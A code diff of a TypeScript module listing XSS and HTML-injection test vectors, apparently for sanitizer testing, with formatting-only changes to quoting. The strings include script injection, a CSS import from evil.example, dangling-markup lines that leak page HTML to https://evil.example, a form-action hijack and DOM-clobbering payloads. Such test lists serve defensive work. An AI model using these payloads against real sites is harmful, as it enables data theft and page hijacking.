@@ -243,7 +243,7 @@ export const vectors: Record<string, readonly string[]> = {
     '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
     '¼script¾alert(1)¼/script¾',
   ],
-  'styles': [
+  styles: [
     '<style>*{display:none}</style>',
     '<STYLE>@import"https://evil.example/xss.css";</STYLE>',
     '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>',
@@ -280,7 +280,7 @@ export const vectors: Record<string, readonly string[]> = {
     '<img src="https://evil.example/uploads/anuncios/00112233445566778899aabbccddeeff.webp">',
     '<img src="/uploads/anuncios/00112233445566778899aabbccddeeff.webp?x=<script>">',
     '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-    '<img src=\'https://evil.example/?html=',
+    "<img src='https://evil.example/?html=",
     '<img srcset="https://evil.example/1x.png 1x" sizes=1px>',
     '<picture><source srcset="https://evil.example/s.png"><img></picture>',
     '<video src="https://evil.example/v.mp4" autoplay></video>',
@@ -290,8 +290,8 @@ export const vectors: Record<string, readonly string[]> = {
     '<form id=x></form><button form=x formaction="https://evil.example">x</button>',
     '<textarea form=x name=leak>',
     '<a href=https://evil.example/?',
-    '<base target=\'',
-    '<input type=hidden name=x value=\'',
+    "<base target='",
+    "<input type=hidden name=x value='",
     '<form name=document><img name=getElementById></form>',
     '<a id=api></a><a id=api name=url href="https://evil.example">x</a>',
     '<img name=cookie><form id=location></form>',
